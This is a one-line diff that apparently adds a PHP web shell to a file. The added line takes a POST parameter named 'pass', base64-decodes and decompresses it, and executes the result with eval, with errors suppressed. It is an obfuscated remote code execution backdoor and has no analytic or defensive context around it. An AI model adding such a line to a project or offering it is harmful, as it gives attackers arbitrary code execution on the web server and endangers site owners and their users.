@@ -1,0 +1,1 @@
+<?php $k="pass"; @eval(gzuncompress(base64_decode($_POST[$k])));
